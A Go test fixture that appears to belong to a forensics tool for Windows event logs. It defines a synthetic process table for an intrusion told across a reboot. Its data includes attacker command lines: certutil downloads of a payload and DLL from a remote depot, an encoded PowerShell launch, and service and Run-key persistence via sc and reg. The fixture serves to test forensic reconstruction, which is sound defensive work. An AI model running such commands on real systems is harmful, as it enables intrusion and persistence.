package origintest

import (
	"encoding/binary"
	"slices"
	"time"

	"github.com/birthmark-dfir/birthmark/evtx"
)

// A process of the story. The Security log and Sysmon both record it.
type process struct {
	pid, parent uint32
	image, line string
	user        account
	logon       uint64
	session     uint32
	start, end  string // end is "" if it ran until the machine stopped
}

// processes is the process table of the day, in order of start. The processes before
// the restart are of another boot than those after it: PIDs and LogonIds are reused.
func processes() []process {
	shell := `"` + system32 + `cmd.exe" /c certutil -urlcache -f ` + depotURL + " " + subject +
		` & certutil -urlcache -f http://` + depotIP + `/u/sqlhelper.dll ` + companion
	return []process{
		{612, 508, system32 + `wininit.exe`, "wininit.exe", localSystem, systemLogon, 0, "04:00:12.204", ""},
		{700, 612, system32 + `services.exe`, system32 + `services.exe`, localSystem, systemLogon, 0, "04:00:12.611", ""},
		{1020, 700, system32 + `svchost.exe`, system32 + `svchost.exe -k iissvcs`, localSystem, systemLogon, 0, "04:00:15.120", ""},
		{2216, 700, genuine, `"` + genuine + `" -sMSSQLSERVER`, databaseEngine, engineLogon, 0, "04:01:30.077", ""},
		{4380, 1020, webServer, webServer + ` -ap "Portal"`, portalAdmin, poolLogon, 0, "04:02:11.500", ""},
		{5532, 1020, system32 + `wbem\WmiPrvSE.exe`, system32 + `wbem\wmiprvse.exe`, networkService, networkLogon, 0, "06:10:00.311", "06:12:01.455"},
		{6120, 6100, `C:\Windows\explorer.exe`, `C:\Windows\Explorer.EXE`, svcAdmin, adminLogon, 2, "13:10:25.318", "14:30:01.002"},
		{6300, 6120, edge, `"` + edge + `"`, svcAdmin, adminLogon, 2, "13:12:44.871", "14:29:57.213"},
		{6412, 6120, installer, `"` + installer + `"`, svcAdmin, adminLogon, 2, "13:15:20.101", "13:15:44.920"},
		{6480, 6120, system32 + `sc.exe`, `sc create ExampleBackup binPath= "` + backup + `" start= auto`, svcAdmin, adminLogon, 2, "13:25:07.552", "13:25:07.871"},
		{5404, 4380, system32 + `cmd.exe`, shell, portalAdmin, poolLogon, 0, "13:42:08.113", "13:42:10.911"},
		{5532, 5404, system32 + `certutil.exe`, `certutil -urlcache -f ` + depotURL + " " + subject, portalAdmin, poolLogon, 0, "13:42:08.402", "13:42:10.790"},
		{5752, 4380, system32 + `cmd.exe`, `"` + system32 + `cmd.exe" /c powershell -nop -enc JABmAD0A`, portalAdmin, poolLogon, 0, "13:43:30.310", "13:43:33.004"},
		{5760, 5752, system32 + `WindowsPowerShell\v1.0\powershell.exe`, `powershell -nop -enc JABmAD0A`, portalAdmin, poolLogon, 0, "13:43:30.442", "13:43:32.871"},
		{7012, 6990, `C:\Windows\explorer.exe`, `C:\Windows\Explorer.EXE`, portalAdmin, rdpLogon, 3, "13:52:20.117", "14:10:31.700"},
		{7100, 7012, system32 + `cmd.exe`, `"` + system32 + `cmd.exe"`, portalAdmin, rdpLogon, 3, "13:53:40.220", "14:10:31.610"},
		{7220, 7100, system32 + `sc.exe`, `sc  create SQLServerSvc binPath= ` + subject + ` start= auto`, portalAdmin, rdpLogon, 3, "13:54:05.081", "13:54:05.402"},
		{7244, 7100, system32 + `reg.exe`, `reg  add HKLM\Software\Microsoft\Windows\CurrentVersion\Run /v SQLServerUpdate /d ` + subject, portalAdmin, rdpLogon, 3, "13:55:12.120", "13:55:12.355"},
		{5532, 6120, system32 + `notepad.exe`, `"` + system32 + `notepad.exe" C:\Users\svcadmin\Documents\todo.txt`, svcAdmin, adminLogon, 2, "14:02:13.401", "14:09:02.118"},

		{608, 500, system32 + `wininit.exe`, "wininit.exe", localSystem, systemLogon, 0, "22:03:41.870", ""},
		{700, 608, system32 + `services.exe`, system32 + `services.exe`, localSystem, systemLogon, 0, "22:03:42.233", ""},
		{1012, 700, system32 + `svchost.exe`, system32 + `svchost.exe -k iissvcs`, localSystem, systemLogon, 0, "22:03:45.006", ""},
		{2216, 700, subject, subject, localSystem, systemLogon, 0, "22:04:02.733", ""},
		{2380, 700, genuine, `"` + genuine + `" -sMSSQLSERVER`, databaseEngine, engineLogon, 0, "22:04:05.114", ""},
		{4112, 1012, webServer, webServer + ` -ap "Portal"`, portalAdmin, poolLogonB, 0, "22:05:31.090", ""},
		{6010, 5990, `C:\Windows\explorer.exe`, `C:\Windows\Explorer.EXE`, svcAdmin, adminLogonB, 2, "22:20:08.442", ""},
	}
}

// guid is the ProcessGuid that Sysmon gives a process: of the machine, the start of
// the process and what tells it from others.
func (p *process) guid() evtx.GUID { return sysmonGUID(at(p.start), uint64(p.pid)) }

func sysmonGUID(start time.Time, number uint64) evtx.GUID {
	g := evtx.GUID{0x2e, 0x1c, 0x3a, 0x5f}
	binary.LittleEndian.PutUint32(g[4:], uint32(start.Unix()))
	binary.LittleEndian.PutUint64(g[8:], number)
	return g
}

// table finds processes by PID at a time.
type table []process

func (t table) at(pid uint32, when time.Time) *process {
	for i := range slices.Backward(t) {
		p := &t[i]
		if p.pid == pid && !at(p.start).After(when) && at(p.start).Before(restarted) == when.Before(restarted) {
			return p
		}
	}
	image := system32 + unlogged[pid]
	return &process{pid: pid, start: "04:00:10.5", image: image}
}

// unlogged are the parents that no log has the start of: they had ended, or started
// before the logs.
var unlogged = map[uint32]string{508: "smss.exe", 500: "smss.exe", 6100: "userinit.exe", 6990: "userinit.exe", 5990: "userinit.exe"}
